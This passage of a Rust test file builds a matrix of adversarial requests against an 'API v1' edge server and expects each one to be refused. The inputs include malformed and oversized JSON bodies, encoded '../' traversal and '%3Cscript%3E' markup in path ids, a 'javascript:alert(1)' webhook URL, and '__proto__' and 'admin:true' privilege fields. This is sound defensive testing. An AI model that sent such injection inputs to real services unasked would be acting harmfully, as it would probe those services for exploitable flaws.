    /// The operator's `ADMIN_TOKEN` only.
    Operator,
    /// The account's brand: the operator, or a brand token of that account.
    Brand,
    Visitor,
    /// A visitor, or the account's brand (a conversation's writers).
    Writer,
}

/// The JSON body a route takes.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Takes {
    Nothing,
    Text,
    Account,
    Session,
    /// `{name}` of a brand token.
    TokenName,
    Settings,
    /// `{secret}` of an account's SSO.
    SsoSecret,
    /// `{account,sso}` of an SSO sign-in.
    SsoSignIn,
    /// `{hidden}`.
    Hidden,
    /// `{url,format}` of a webhook.
    Webhook,
}

/// What the `{id}` of a route names.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Id {
    Post,
    Reply,
    BrandToken,
    Queued,
    Webhook,
}

struct Route {
    method: Method,
    /// With `{handle}` and `{id}` for its parameters.
    path: &'static str,
    who: Who,
    takes: Takes,
    list: bool,
}

/// Every route of API v1 (README "API v1", `edge/src/routes.rs`).
fn routes() -> Vec<Route> {
    use Takes::*;
    use Who::*;
    let route = |method, path, who, takes, list| Route { method, path, who, takes, list };
    vec![
        route(Method::POST, "/v1/accounts", Operator, Account, false),
        route(Method::GET, "/v1/accounts", Operator, Nothing, false),
        route(Method::GET, "/v1/accounts/{handle}", Anyone, Nothing, false),
        route(Method::GET, "/v1/accounts/{handle}/posts", Anyone, Nothing, true),
        route(Method::POST, "/v1/accounts/{handle}/posts", Brand, Text, false),
        route(Method::GET, "/v1/posts/{id}", Anyone, Nothing, false),
        route(Method::DELETE, "/v1/posts/{id}", Brand, Nothing, false),
        route(Method::GET, "/v1/posts/{id}/replies", Anyone, Nothing, true),
        route(Method::POST, "/v1/posts/{id}/replies", Writer, Text, false),
        route(Method::POST, "/v1/session", Anyone, Session, false),
        route(Method::GET, "/v1/accounts/{handle}/follow", Visitor, Nothing, false),
        route(Method::PUT, "/v1/accounts/{handle}/follow", Visitor, Nothing, false),
        route(Method::DELETE, "/v1/accounts/{handle}/follow", Visitor, Nothing, false),
        route(Method::GET, "/v1/timeline", Visitor, Nothing, true),
        route(Method::GET, "/v1/accounts/{handle}/live", Anyone, Nothing, false),
        route(Method::POST, "/v1/accounts/{handle}/tokens", Operator, TokenName, false),
        route(Method::GET, "/v1/accounts/{handle}/tokens", Operator, Nothing, false),
        route(Method::DELETE, "/v1/accounts/{handle}/tokens/{id}", Operator, Nothing, false),
        route(Method::PUT, "/v1/accounts/{handle}/sso", Operator, SsoSecret, false),
        route(Method::GET, "/v1/accounts/{handle}/settings", Brand, Nothing, false),
        route(Method::PUT, "/v1/accounts/{handle}/settings", Brand, Settings, false),
        route(Method::GET, "/v1/accounts/{handle}/queue", Brand, Nothing, false),
        route(Method::POST, "/v1/accounts/{handle}/queue/{id}/approve", Brand, Nothing, false),
        route(Method::DELETE, "/v1/accounts/{handle}/queue/{id}", Brand, Nothing, false),
        route(Method::GET, "/v1/accounts/{handle}/hidden", Brand, Nothing, false),
        route(Method::GET, "/v1/accounts/{handle}/inbox", Brand, Nothing, true),
        route(Method::GET, "/v1/accounts/{handle}/stats", Brand, Nothing, false),
        route(Method::GET, "/v1/accounts/{handle}/mentions", Brand, Nothing, true),
        route(Method::GET, "/v1/accounts/{handle}/webhooks", Brand, Nothing, false),
        route(Method::POST, "/v1/accounts/{handle}/webhooks", Brand, Webhook, false),
        route(Method::DELETE, "/v1/accounts/{handle}/webhooks/{id}", Brand, Nothing, false),
        route(Method::GET, "/v1/accounts/{handle}/webhooks/{id}/deliveries", Brand, Nothing, true),
        route(Method::POST, "/v1/accounts/{handle}/webhooks/{id}/test", Brand, Nothing, false),
        route(Method::GET, "/v1/accounts/{handle}/offers", Brand, Nothing, false),
        route(Method::POST, "/v1/accounts/{handle}/media", Brand, Nothing, false),
        route(Method::POST, "/v1/posts/{id}/offer/claim", Visitor, Nothing, false),
        route(Method::PUT, "/v1/posts/{id}/hidden", Brand, Hidden, false),
        route(Method::DELETE, "/v1/replies/{id}", Writer, Nothing, false),
        route(Method::PUT, "/v1/replies/{id}/hidden", Brand, Hidden, false),
        route(Method::POST, "/v1/session/sso", Anyone, SsoSignIn, false),
        route(Method::GET, "/v1/me", Visitor, Nothing, false),
        route(Method::DELETE, "/v1/me", Visitor, Nothing, false),
    ]
}

impl Route {
    fn at(&self, handle: &str, id: &str) -> String {
        self.path.replace("{handle}", handle).replace("{id}", id)
    }

    fn has(&self, param: &str) -> bool {
        self.path.contains(param)
    }

    fn is_live(&self) -> bool {
        self.path.ends_with("/live")
    }

    fn id(&self) -> Option<Id> {
        if !self.has("{id}") {
            None
        } else if self.path.starts_with("/v1/replies/") {
            Some(Id::Reply)
        } else if self.has("/tokens/") {
            Some(Id::BrandToken)
        } else if self.has("/queue/") {
            Some(Id::Queued)
        } else if self.has("/webhooks/") {
            Some(Id::Webhook)
        } else {
            Some(Id::Post)
        }
    }

    /// A visitor's write, which the account's `origins` setting restricts.
    fn is_visitor_write(&self) -> bool {
        matches!(
            (self.method.as_str(), self.path),
            ("POST", "/v1/posts/{id}/replies" | "/v1/posts/{id}/offer/claim")
                | ("DELETE", "/v1/replies/{id}")
                | ("PUT" | "DELETE", "/v1/accounts/{handle}/follow")
        )
    }
}

/// The fields of a route's body, with valid values, as JSON text.
fn valid_fields(takes: Takes) -> Vec<(&'static str, String)> {
    let fields: &[(&'static str, &str)] = match takes {
        Takes::Nothing => &[],
        Takes::Text => &[("text", "\"a perfectly fine text\"")],
        Takes::Session => &[("name", "\"Mallory\"")],
        Takes::Account => &[("handle", "\"intruder\""), ("name", "\"Intruder\""), ("bio", "\"\"")],
        Takes::TokenName => &[("name", "\"Intruder's token\"")],
        // Not acme's settings (one more word): taken, they would show in the snapshot.
        Takes::Settings => &[
            ("moderation", "\"open\""),
            ("blocked_words", "[\"arnaque\",\"intruder\"]"),
            ("links", "\"queue\""),
            ("sso_required", "false"),
            ("origins", "[\"https://shop.example\"]"),
        ],
        Takes::SsoSecret => &[("secret", "\"an-intruder-sets-this-secret\"")],
        Takes::SsoSignIn => return vec![("account", "\"acme\"".into()), ("sso", format!("\"{}\"", *CUSTOMER_SSO))],
        Takes::Hidden => &[("hidden", "true")],
        Takes::Webhook => &[("url", "\"https://hooks.example/intruder\""), ("format", "\"json\""), ("language", "\"fr\"")],
    };
    fields.iter().map(|(name, value)| (*name, (*value).to_owned())).collect()
}

/// The field a route's text rules apply to.
fn main_field(takes: Takes) -> &'static str {
    match takes {
        Takes::Text => "text",
        Takes::Settings => "blocked_words",
        Takes::SsoSecret => "secret",
        Takes::SsoSignIn => "sso",
        Takes::Hidden => "hidden",
        Takes::Webhook => "url",
        Takes::Nothing | Takes::Session | Takes::Account | Takes::TokenName => "name",
    }
}

/// The main field as case names call it: a blocked word is one of a list.
fn main_label(takes: Takes) -> &'static str {
    match takes {
        Takes::Settings => "blocked_words[0]",
        takes => main_field(takes),
    }
}

/// The route's valid body with `field` set to the raw JSON bytes `raw`.
fn body_with(takes: Takes, field: &str, raw: &[u8]) -> Vec<u8> {
    let mut out = b"{".to_vec();
    for (i, (name, valid)) in valid_fields(takes).iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        out.extend_from_slice(format!("\"{name}\":").as_bytes());
        out.extend_from_slice(if *name == field { raw } else { valid.as_bytes() });
    }
    out.push(b'}');
    out
}

fn body_with_str(takes: Takes, field: &str, value: &str) -> Vec<u8> {
    body_with(takes, field, serde_json::to_string(value).unwrap().as_bytes())
}

/// The route's valid body with the main field holding the raw JSON bytes
/// `raw` (for settings, as their only blocked word).
fn with_main(takes: Takes, raw: &[u8]) -> Vec<u8> {
    match takes {
        Takes::Settings => body_with(takes, main_field(takes), &[b"[", raw, b"]"].concat()),
        _ => body_with(takes, main_field(takes), raw),
    }
}

fn with_main_str(takes: Takes, value: &str) -> Vec<u8> {
    with_main(takes, serde_json::to_string(value).unwrap().as_bytes())
}

fn valid_body(takes: Takes) -> Vec<u8> {
    body_with(takes, "", b"")
}

/// Builds the cases: each family is a function of the route it applies to.
struct Matrix<'a> {
    admin: &'a str,
    secret: &'a str,
    seed: &'a Seed,
}

fn all_cases(w: &World) -> Vec<Case> {
    let m = Matrix { admin: w.edge.admin_token(), secret: w.edge.session_secret(), seed: w.seed() };
    let mut cases = Vec::new();
    for route in routes() {
        cases.extend(m.bodies(&route));
        cases.extend(m.texts(&route));
        cases.extend(m.sizes(&route));
        cases.extend(m.paths(&route));
        cases.extend(m.lists(&route));
        cases.extend(m.tokens(&route));
    }
    cases.extend(m.array_bodies());
    cases.extend(m.path_tricks());
    cases.extend(m.unknown_with_cursor());
    cases.extend(m.sso_tokens());
    cases.extend(m.hidden_stays_hidden());
    cases.extend(m.origins());
    cases.extend(m.methods());
    cases
}

impl Matrix<'_> {
    /// The `{id}` a route acts on: THREAD, REPLY, acme's brand token, cleo's queued reply.
    fn id_of(&self, route: &Route) -> String {
        match route.id() {
            None | Some(Id::Post) => THREAD.into(),
            Some(Id::Reply) => REPLY.into(),
            Some(Id::BrandToken) => self.seed.acme_cm.id.clone(),
            Some(Id::Queued) => QUEUED.into(),
            Some(Id::Webhook) => self.seed.acme_hook.webhook.id.clone(),
        }
    }

    fn path_of(&self, route: &Route) -> String {
        route.at(ACME, &self.id_of(route))
    }

    /// The visitor a route acts as: where it could destroy what a visitor
    /// has, one who has it (refused, it must not).
    fn visitor(&self, route: &Route) -> &Session {
        match route.path {
            "/v1/me" => &self.seed.cleo,
            "/v1/replies/{id}" => &self.seed.ana,
            _ => &self.seed.mallory,
        }
    }

    /// The request `route` would take: every case changes one thing in it.
    fn base(&self, route: &Route, area: Area, what: impl Into<String>) -> Case {
        let case = Case::new(area, what, route.method.clone(), self.path_of(route));
        let case = match route.who {
            Who::Anyone => case,
            Who::Operator | Who::Brand => case.bearer(self.admin),
            Who::Visitor | Who::Writer => case.bearer(&self.visitor(route).token),
        };
        match route.takes {
            Takes::Nothing => case,
            takes => case.body(valid_body(takes)),
        }
    }

    /// Not JSON, not the JSON the route takes: 400 malformed_json.
    fn bodies(&self, route: &Route) -> Vec<Case> {
        let takes = route.takes;
        if takes == Takes::Nothing {
            return Vec::new();
        }
        let valid = valid_body(takes);
        let (field, label) = (main_field(takes), main_label(takes));
        let with = |raw: &[u8]| with_main(takes, raw);
        let cat = |a: &[u8], b: &[u8]| [a, b].concat();
        let utf16: Vec<u8> =
            String::from_utf8(valid.clone()).unwrap().encode_utf16().flat_map(u16::to_le_bytes).collect();
        let mut bodies: Vec<(String, Vec<u8>)> = vec![
            ("empty body".into(), vec![]),
            ("only an opening brace".into(), b"{".to_vec()),
            ("truncated in the middle".into(), valid[..valid.len() / 2].to_vec()),
            ("truncated by its last byte".into(), valid[..valid.len() - 1].to_vec()),
            ("not JSON".into(), b"not json".to_vec()),
            ("JSON null".into(), b"null".to_vec()),
            ("a JSON array".into(), b"[]".to_vec()),
            ("a JSON string".into(), b"\"text\"".to_vec()),
            ("a JSON number".into(), b"0".to_vec()),
            ("garbage after the JSON".into(), cat(&valid, b" x")),
            ("two JSON documents".into(), cat(&valid, &valid)),
            ("NUL after the JSON".into(), cat(&valid, b"\0")),
            ("single quotes".into(), valid.iter().map(|&b| if b == b'"' { b'\'' } else { b }).collect()),
            ("a comment".into(), cat(b"{/* hi */", &valid[1..])),
            ("UTF-8 byte order mark".into(), cat(b"\xEF\xBB\xBF", &valid)),
            ("UTF-16LE".into(), utf16),
            ("invalid UTF-8 body".into(), b"\xff\xfe\x00\x01".to_vec()),
            (format!("invalid UTF-8 in {label}"), with(b"\"ab\xff\xfecd\"")),
            (format!("overlong UTF-8 '<' in {label}"), with(b"\"\xc0\xbcscript\xc0\xbe\"")),
            (format!("UTF-8-encoded surrogate in {label}"), with(b"\"\xed\xa0\x80\"")),
            (format!("lone surrogate escape in {label}"), with(br#""\ud800""#)),
            (format!("raw control character in {label}"), with(b"\"a\x01b\"")),
            (format!("raw NUL in {label}"), with(b"\"a\x00b\"")),
            (format!("raw newline in {label}"), with(b"\"a\nb\"")),
            (format!("bad escape in {label}"), with(br#""\x41""#)),
            ("3,000 nested arrays".into(), cat(&b"[".repeat(3000), &b"]".repeat(3000))),
            (format!("500 nested objects in {label}"), with(&cat(&b"{\"a\":".repeat(500), &b"}".repeat(500)))),
            // wrong types
            (format!("{label} is a number"), with(b"1")),
            (format!("{label} is a 5,000-digit number"), with("9".repeat(5000).as_bytes())),
            (format!("{label} is 1e400"), with(b"1e400")),
            (format!("{label} is true"), with(b"true")),
            (format!("{label} is null"), with(b"null")),
            (format!("{label} is an array of strings"), with(b"[\"hi\"]")),
            (format!("{label} is an object"), with(b"{\"text\":\"hi\"}")),
            // missing and extra fields
            ("no field at all".into(), b"{}".to_vec()),
            (
                "the first field's name capitalized".into(),
                valid.iter().enumerate().map(|(i, &b)| if i == 2 { b.to_ascii_uppercase() } else { b }).collect(),
            ),
            (format!("{field} twice"), cat(&valid[..valid.len() - 1], format!(",\"{field}\":\"again\"}}").as_bytes())),
        ];
        // Bodies of the list above that these routes take.
        match takes {
            // Every setting has a default: `{}` and `[]` would reset acme's (see `array_bodies`).
            Takes::Settings => bodies.retain(|(what, _)| what != "no field at all" && what != "a JSON array"),
            Takes::Hidden => bodies.retain(|(what, _)| what != "hidden is true"),
            _ => {}
        }
        let extra =
            |name: &str, value: &str| cat(&valid[..valid.len() - 1], format!(",\"{name}\":{value}}}").as_bytes());
        let extras: &[(&str, &str)] = match takes {
            Takes::Text => &[
                ("id", "\"acme-zz\""),
                ("account", "\"other\""),
                ("author", "{\"id\":\"0000000000000000\",\"name\":\"Acme\"}"),
                ("created_at", "\"2000-01-01T00:00:00.000Z\""),
                ("replies", "1000"),
                ("__proto__", "{\"admin\":true}"),
            ],
            Takes::Session => &[
                ("id", "\"0000000000000000\""),
                ("sub", "\"0000000000000000\""),
                ("exp", "99999999999"),
                ("token", "\"x\""),
            ],
            Takes::Account => &[("followers", "1000000"), ("posts", "5"), ("admin", "true")],
            Takes::TokenName => &[("id", "\"0a1b2c3d\""), ("token", "\"x\""), ("handle", "\"other\"")],
            Takes::Settings => &[("shadowban", "true"), ("handle", "\"other\""), ("__proto__", "{\"admin\":true}")],
            Takes::SsoSecret => &[("account", "\"other\""), ("previous", "\"x\"")],
            Takes::SsoSignIn => &[("name", "\"Admin\""), ("badge", "\"brand\""), ("customer_of", "\"other\"")],
            Takes::Hidden => &[("post", "\"other-0\""), ("deleted", "true")],
            Takes::Webhook => &[("secret", "\"whsec_chosen\""), ("id", "\"0a1b2c3d4e5f\""), ("state", "\"delivered\"")],
            Takes::Nothing => &[],
        };
        for (name, value) in extras {
            bodies.push((format!("extra field {name}"), extra(name, value)));
        }
        let field_is = |what: &str, field: &str, raw: &str| (what.to_owned(), body_with(takes, field, raw.as_bytes()));
        match takes {
            Takes::Account => bodies.extend([
                ("handle missing".into(), b"{\"name\":\"Intruder\"}".to_vec()),
                ("name missing".into(), b"{\"handle\":\"intruder\"}".to_vec()),
                field_is("handle is a number", "handle", "1"),
                field_is("handle is an array", "handle", "[\"intruder\"]"),
                field_is("bio is null", "bio", "null"),
                field_is("bio is a number", "bio", "42"),
            ]),
            Takes::Settings => bodies.extend([
                field_is("moderation is strict", "moderation", "\"strict\""),
                field_is("moderation capitalized", "moderation", "\"Premoderated\""),
                field_is("moderation is null", "moderation", "null"),
                field_is("moderation is a list", "moderation", "[\"premoderated\"]"),
                field_is("links is block", "links", "\"block\""),
                field_is("links is true", "links", "true"),
                field_is("sso_required is the string true", "sso_required", "\"true\""),
                field_is("sso_required is 1", "sso_required", "1"),
                field_is("sso_required is null", "sso_required", "null"),
                field_is("blocked_words is a string", "blocked_words", "\"arnaque\""),
                field_is("origins is a string", "origins", "\"https://shop.example\""),
                field_is("an origin is a number", "origins", "[1]"),
                field_is("origins is an object", "origins", "{\"https://shop.example\":true}"),
            ]),
            Takes::SsoSignIn => bodies.extend([
                ("account missing".into(), format!("{{\"sso\":\"{}\"}}", *CUSTOMER_SSO).into_bytes()),
                ("sso missing".into(), b"{\"account\":\"acme\"}".to_vec()),
                field_is("account is a number", "account", "1"),
                field_is("account is null", "account", "null"),
                field_is("account is an array", "account", "[\"acme\"]"),
            ]),
            Takes::Webhook => bodies.extend([
                ("format missing".into(), b"{\"url\":\"https://hooks.example/intruder\"}".to_vec()),
                field_is("format is xml", "format", "\"xml\""),
                field_is("format capitalized", "format", "\"JSON\""),
                field_is("format is null", "format", "null"),
                field_is("language is de", "language", "\"de\""),
                field_is("url is a list", "url", "[\"https://hooks.example\"]"),
            ]),
            Takes::Hidden => bodies.extend([
                field_is("hidden is the string true", "hidden", "\"true\""),
                field_is("hidden is 0", "hidden", "0"),
                field_is("hidden is TRUE", "hidden", "TRUE"),
            ]),
            _ => {}
        }
        bodies
            .into_iter()
            .map(|(what, body)| self.base(route, Area::Bodies, what).body(body).error(400, "malformed_json"))
            .collect()
    }

    /// A body that is a JSON array of the fields' values, in order: serde's
    /// other form of a struct, but no object, so malformed_json. Each is aimed
    /// where a body taken would still store nothing (an account that exists,
    /// or one or a post that does not): these cases do not change one thing.
    fn array_bodies(&self) -> Vec<Case> {
        let array = |what: &str, method: Method, path: &str, body: &str| {
            Case::new(Area::Bodies, format!("the body as a JSON array: {what}"), method, path)
                .body(body)
                .error(400, "malformed_json")
        };
        let as_operator = [
            ("an account whose handle is taken", Method::POST, "/v1/accounts", r#"["acme","Evil","x"]"#),
            ("a post of an unknown account", Method::POST, "/v1/accounts/ghost/posts", r#"["hi"]"#),
            ("a brand token of an unknown account", Method::POST, "/v1/accounts/ghost/tokens", r#"["x"]"#),
            ("no setting, of an unknown account", Method::PUT, "/v1/accounts/ghost/settings", "[]"),
            ("premoderation, of an unknown account", Method::PUT, "/v1/accounts/ghost/settings", r#"["premoderated"]"#),
            ("an SSO secret of an unknown account", Method::PUT, "/v1/accounts/ghost/sso", r#"["long-enough-secret"]"#),
            ("hiding an unknown post", Method::PUT, "/v1/posts/ghost-0/hidden", "[true]"),
            ("hiding an unknown reply", Method::PUT, "/v1/replies/ghost-0-0/hidden", "[true]"),
        ];
        let mut cases: Vec<Case> = as_operator
            .into_iter()
            .map(|(what, method, path, body)| array(what, method, path, body).bearer(self.admin))
            .collect();
        let reply = array("a reply to an unknown post", Method::POST, "/v1/posts/ghost-0/replies", r#"["hi"]"#);
        cases.push(reply.bearer(&self.seed.mallory.token));
        cases.push(array("a session", Method::POST, "/v1/session", r#"["Mallory"]"#));
        let sign_in = json!([GHOST, *CUSTOMER_SSO]).to_string();
        cases.push(array("an SSO sign-in to an unknown account", Method::POST, "/v1/session/sso", &sign_in));
        cases
    }

    /// Text the rules refuse: 422 with the rule's code; invalid settings;
    /// SSO secrets too short.
    fn texts(&self, route: &Route) -> Vec<Case> {
        let case = |field: &str, what: &str, value: &str, code: &'static str| {
            self.base(route, Area::Text, format!("{field}: {what}"))
                .body(body_with_str(route.takes, field, value))
                .error(422, code)
        };
        let mut cases = Vec::new();
        match route.takes {
            Takes::Nothing | Takes::Hidden => {}
            Takes::Text => {
                for (what, text, code) in bad_texts() {
                    cases.push(case("text", what, &text, code));
                }
            }
            Takes::Session | Takes::TokenName => {
                for (what, name) in bad_names() {
                    cases.push(case("name", what, &name, "invalid_name"));
                }
            }
            Takes::Account => {
                for (what, name) in bad_names() {
                    cases.push(case("name", what, &name, "invalid_name"));
                }
                for (what, handle) in bad_handles() {
                    cases.push(case("handle", what, &handle, "invalid_handle"));
                }
                for (what, bio, code) in bad_bios() {
                    cases.push(case("bio", what, &bio, code));
                }
                cases.push(
                    self.base(route, Area::Text, "handle of an existing account")
                        .body(br#"{"handle":"acme","name":"Evil Acme","bio":"taken over"}"#.to_vec())
                        .error(409, "handle_taken"),
                );
            }
            Takes::Settings => {
                for (field, what, value) in bad_settings() {
                    let body = body_with(route.takes, field, value.to_string().as_bytes());
                    let case = self.base(route, Area::Text, format!("{field}: {what}")).body(body);
                    cases.push(case.error(422, "invalid_settings"));
                }
            }
            Takes::SsoSecret => {
                for (what, secret) in
                    [("empty", ""), ("a space", " "), ("NUL", "\0"), ("15 characters", "fifteen-chars-!")]
                {
                    let short = self.base(route, Area::Text, format!("secret: {what}"));
                    cases.push(short.body(body_with_str(route.takes, "secret", secret)).error(400, "bad_request"));
                }
                // Aimed at no account: taken, it would have replaced acme's secret.
                let emoji = self.base(route, Area::Text, "secret: 8 emoji (32 bytes), of an unknown account");
                let body = body_with_str(route.takes, "secret", &"🐦".repeat(8));
                cases.push(emoji.path(route.at(GHOST, "")).body(body).error(400, "bad_request"));
            }
            Takes::SsoSignIn => {
                for (what, handle) in bad_handles() {
                    cases.push(case("account", what, &handle, "invalid_handle"));
                }
            }
            Takes::Webhook => {
                for (what, url) in [
                    ("empty", ""),
                    ("plain http", "http://hooks.example/x"),
                    ("loopback over http (not allowed on this edge)", "http://127.0.0.1:9/x"),
                    ("no host", "https://"),
                    ("no scheme", "hooks.example/x"),
                    ("ftp", "ftp://hooks.example/x"),
                    ("javascript", "javascript:alert(1)"),
                    ("data", "data:text/plain,hi"),
                    ("a space in the host", "https://hooks example/x"),
                ] {
                    cases.push(case("url", what, url, "invalid_webhook"));
                }
                let long = format!("https://hooks.example/{}", "a".repeat(2_000));
                cases.push(case("url", "over 2,000 bytes", &long, "invalid_webhook"));
            }
        }
        cases
    }

    /// Bodies over 8 KiB: 413 body_too_large, refused before being read whole.
    fn sizes(&self, route: &Route) -> Vec<Case> {
        let takes = route.takes;
        if takes == Takes::Nothing {
            return Vec::new();
        }
        let label = main_label(takes);
        let valid = valid_body(takes);
        // Exactly MAX_BODY_BYTES: read whole, then judged by the route's rules.
        let up_to_limit = |body: &dyn Fn(&str) -> Vec<u8>| body(&"a".repeat(MAX_BODY_BYTES - body("").len()));
        let in_main = |value: &str| with_main_str(takes, value);
        let (mut at_limit, status, code) = match takes {
            Takes::Account => (up_to_limit(&|bio| body_with_str(takes, "bio", bio)), 422, "text_too_long"),
            Takes::Session | Takes::TokenName => (up_to_limit(&in_main), 422, "invalid_name"),
            Takes::Settings => (up_to_limit(&in_main), 422, "invalid_settings"),
            Takes::Webhook => (up_to_limit(&in_main), 422, "invalid_webhook"),
            Takes::SsoSignIn => (up_to_limit(&in_main), 401, "unauthorized"),
            // A string where a boolean goes.
            Takes::Hidden => (up_to_limit(&in_main), 400, "malformed_json"),
            // A long secret is a good one: a short one, padded with spaces.
            Takes::SsoSecret => (body_with_str(takes, "secret", "short"), 400, "bad_request"),
            _ => (up_to_limit(&in_main), 422, "text_too_long"),
        };
        at_limit.resize(MAX_BODY_BYTES, b' ');
        let case = |what: &str| self.base(route, Area::Sizes, what);
        vec![
            case(&format!("100,000 characters in {label}"))
                .body(with_main_str(takes, &"x".repeat(100_000)))
                .error(413, "body_too_large"),
            case(&format!("100,000 emoji in {label}"))
                .body(with_main_str(takes, &"🐦".repeat(100_000)))
                .error(413, "body_too_large"),
            case("valid JSON of 8 KiB + 1 byte").padded(valid.clone(), MAX_BODY_BYTES + 1).error(413, "body_too_large"),
            case("exactly 8 KiB: read, then judged").body(at_limit).error(status, code),
            case("10 MB, with Content-Length").padded(valid.clone(), TEN_MB).error(413, "body_too_large"),
            // No Content-Length: the edge must stop reading at 8 KiB by itself.
            case("valid JSON of 8 KiB + 1 byte, chunked")
                .padded(valid.clone(), MAX_BODY_BYTES + 1)
                .wire(Wire::Chunked)
                .error(413, "body_too_large"),
            case("10 MB, chunked, no Content-Length")
                .padded(valid, TEN_MB)
                .wire(Wire::Chunked)
                .error(413, "body_too_large"),
        ]
    }

    /// Handles and ids: malformed, unknown, with encoded tricks; stray segments.
    fn paths(&self, route: &Route) -> Vec<Case> {
        let mut cases = Vec::new();
        let id = self.id_of(route);
        let case = |what: String, path: String| self.base(route, Area::Paths, what).path(path);
        if route.has("{handle}") {
            for (what, handle) in bad_handles_in_path() {
                let what = format!("handle {what}");
                cases.push(case(what, route.at(&handle, &id)).error(404, "account_not_found"));
            }
            let unknown = case("unknown handle".into(), route.at(GHOST, &id));
            // /live checks the upgrade before anything else.
            cases.push(match route.id() {
                _ if route.is_live() => unknown.error(426, "upgrade_required"),
                _ => unknown.error(404, "account_not_found"),
            });
        }
        let bad = |what: &str, id: &str| case(format!("id {what}"), route.at(ACME, id)).error(400, "invalid_id");
        let unknown = |what: &str, id: &str, code| case(format!("id of {what}"), route.at(ACME, id)).error(404, code);
        match route.id() {
            None => {}
            Some(Id::Post) => {
                for (what, id) in bad_ids() {
                    cases.push(bad(what, &id));
                }
                for (what, id) in [
                    ("unknown number", "acme-zz".to_owned()),
                    ("2^53 - 1, the largest safe JSON integer", format!("acme-{}", b36((1 << 53) - 1))),
                    ("2^53", format!("acme-{}", b36(1 << 53))),
                    ("the largest number", format!("acme-{U64_MAX_B36}")),
                    ("unknown account", "ghost-0".to_owned()),
                    ("deleted post", DELETED.to_owned()),
                    ("other account's unknown number", "other-zz".to_owned()),
                ] {
                    cases.push(unknown(what, &id, "post_not_found"));
                }
            }
            Some(Id::Reply) => {
                for (what, id) in bad_reply_ids() {
                    cases.push(bad(&what, &id));
                }
                for (what, id, code) in [
                    ("an unknown number", format!("{THREAD}-zz"), "reply_not_found"),
                    ("2^53", format!("{THREAD}-{}", b36(1 << 53)), "reply_not_found"),
                    ("the largest number", format!("{THREAD}-{U64_MAX_B36}"), "reply_not_found"),
                    ("another account's unknown number", "other-0-zz".into(), "reply_not_found"),
                    ("an unknown post", "acme-zz-0".into(), "post_not_found"),
                    ("the largest post number", format!("acme-{U64_MAX_B36}-0"), "post_not_found"),
                    ("an unknown account", "ghost-0-0".into(), "post_not_found"),
                    ("the deleted post", format!("{DELETED}-0"), "post_not_found"),
                ] {
                    cases.push(unknown(what, &id, code));
                }
            }
            Some(Id::BrandToken) => {
                let real = &self.seed.acme_cm;
                for (what, id) in [
                    ("empty", String::new()),
                    ("uppercase", "0A1B2C3D".into()),
                    ("of 7 digits", "0a1b2c3".into()),
                    ("of 9 digits", "0a1b2c3d4".into()),
                    ("not hexadecimal", "0a1b2c3g".into()),
                    ("with a sign", "+0a1b2c3".into()),
                    ("the whole token", real.token.clone()),
                    ("with NUL", format!("{}%00", real.id)),
                    ("with an encoded space", format!("%20{}", real.id)),
                    ("with an encoded ../", format!("..%2F{}", real.id)),
                    ("invalid UTF-8", "%FF%FE%FD%FC%FB%FA%F9%F8".into()),
                    ("emoji", "%F0%9F%90%A6".repeat(2)),
                    ("fullwidth digits", "%EF%BC%90".repeat(8)),
                    ("markup", "%3Cscript%3E".into()),
                    ("of 8,000 characters", "a".repeat(8000)),
                ] {
                    cases.push(bad(what, &id));
                }
                for (what, id) in [
                    ("no token", "00000000"),
                    ("the revoked token", self.seed.revoked.id.as_str()),
                    ("other's token", self.seed.other_cm.id.as_str()),
                ] {
                    cases.push(unknown(what, id, "not_found"));
                }
            }
            Some(Id::Webhook) => {
                let real = &self.seed.acme_hook.webhook.id;
                for (what, id) in [
                    ("empty", String::new()),
                    ("uppercase", real.to_uppercase()),
                    ("of 11 digits", real[1..].to_owned()),
                    ("of 13 digits", format!("{real}0")),
                    ("not hexadecimal", "0a1b2c3d4e5g".into()),
                    ("with NUL", format!("{real}%00")),
                    ("with an encoded ../", format!("..%2F{real}")),
                    ("invalid UTF-8", "%FF%FE%FD%FC%FB%FA%F9%F8%F7%F6%F5%F4".into()),
                    ("emoji", "%F0%9F%90%A6".repeat(3)),
                    ("markup", "%3Cscript%3E".into()),
                    ("of 8,000 characters", "a".repeat(8000)),
                ] {
                    cases.push(bad(what, &id));
                }
                for (what, id) in [("no webhook", "000000000000"), ("other's webhook", self.seed.other_hook.webhook.id.as_str())] {
                    cases.push(unknown(what, id, "webhook_not_found"));
                }
            }
            Some(Id::Queued) => {
                for (what, id) in [
                    ("empty", String::new()),
                    ("a word", "x".into()),
                    ("negative", "-1".into()),
                    ("decimal", "1.5".into()),
                    ("hexadecimal", "0x1".into()),
                    ("exponent", "1e1".into()),
                    ("base 36", "z".into()),
                    ("over u64", "18446744073709551616".into()),
                    ("NUL", "%00".into()),
                    ("with NUL after", "0%00".into()),
                    ("with an encoded space", "%200".into()),
                    ("invalid UTF-8", "%FF".into()),
                    ("emoji", "%F0%9F%90%A6".into()),
                    ("fullwidth digit", "%EF%BC%90".into()),
                    ("a reply id", REPLY.into()),
                    ("markup", "%3Cscript%3E".into()),
                    ("with an encoded ../", "..%2F0".into()),
                    ("of 8,000 digits", "9".repeat(8000)),
                ] {
                    cases.push(bad(what, &id));
                }
                // A number no reply waits as: read as one, it is not found.
                for (what, id) in [("with a plus sign", "+7"), ("with a leading zero", "07")] {
                    cases.push(bad(what, id));
                }
                for (what, id) in [
                    ("no waiting reply", "7"),
                    ("2^53 + 1", "9007199254740993"),
                    ("the largest number", "18446744073709551615"),
                ] {
                    cases.push(unknown(what, id, "not_found"));
                }
                let elsewhere = case("id of acme's waiting reply, on other's queue".into(), route.at(OTHER, QUEUED));
                cases.push(elsewhere.error(404, "not_found"));
            }
        }
        let path = self.path_of(route);
        let trailing = match route.path {
            // `/v1/accounts/` names the account "", which does not exist.
            "/v1/accounts" => (404, "account_not_found"),
            // `…/tokens/`, `…/queue/` and `…/webhooks/` name the token, the waiting reply or the webhook "", whose path takes DELETE only.
            "/v1/accounts/{handle}/tokens" | "/v1/accounts/{handle}/queue" | "/v1/accounts/{handle}/webhooks" => (405, "method_not_allowed"),
            _ => (404, "not_found"),
        };
        cases.push(case("trailing slash".into(), format!("{path}/")).error(trailing.0, trailing.1));
        cases.push(case("two extra segments".into(), format!("{path}/x/y")).error(404, "not_found"));
        cases.push(case("double slash after /v1".into(), path.replacen("/v1/", "/v1//", 1)).error(404, "not_found"));
